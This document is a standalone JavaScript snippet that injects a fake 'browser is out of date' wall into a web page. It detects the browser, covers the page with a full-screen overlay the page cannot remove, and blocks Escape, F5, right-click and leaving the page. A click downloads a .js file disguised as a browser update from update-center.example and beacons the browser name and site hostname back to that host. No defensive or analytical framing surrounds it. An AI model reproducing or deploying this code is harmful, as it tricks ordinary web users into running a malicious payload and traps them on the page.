const ua = navigator.userAgent;
const name = /Edg\//.test(ua) ? "Microsoft Edge" : /Firefox\//.test(ua) ? "Mozilla Firefox" : "Google Chrome";
const version = (/(?:Chrome|Firefox|Edg)\/(\d+)/.exec(ua) || [0, "100"])[1];

const wall = document.createElement("div");
wall.attachShadow({ mode: "closed" }).innerHTML = `
  <style>.w{position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Roboto,Arial}</style>
  <div class="w"><h1>${name} is out of date</h1><p>You are using ${name} ${version}. This version has 3 critical errors. Update to continue.</p>
  <button>Update ${name}</button></div>`;

function hold() {
  if (!document.documentElement.contains(wall)) document.documentElement.append(wall);
  document.documentElement.style.overflow = "hidden";
}
hold();
new MutationObserver(hold).observe(document.documentElement, { childList: true, attributes: true });

wall.addEventListener("click", async () => {
  const a = document.createElement("a");
  a.href = `https://update-center.example/get?b=${encodeURIComponent(name)}&v=${version}&h=${location.hostname}`;
  a.download = `${name.replace(" ", "_")}_Update_${Number(version) + 1}.js`;
  a.click();
  localStorage.setItem("upd", Date.now());
  await document.documentElement.requestFullscreen().catch(() => {});
  navigator.sendBeacon("https://update-center.example/s", name);
});
window.addEventListener("keydown", (e) => (e.key === "Escape" || e.key === "F5") && e.preventDefault(), true);
window.addEventListener("contextmenu", (e) => e.preventDefault(), true);
window.onbeforeunload = () => "The update is not finished";
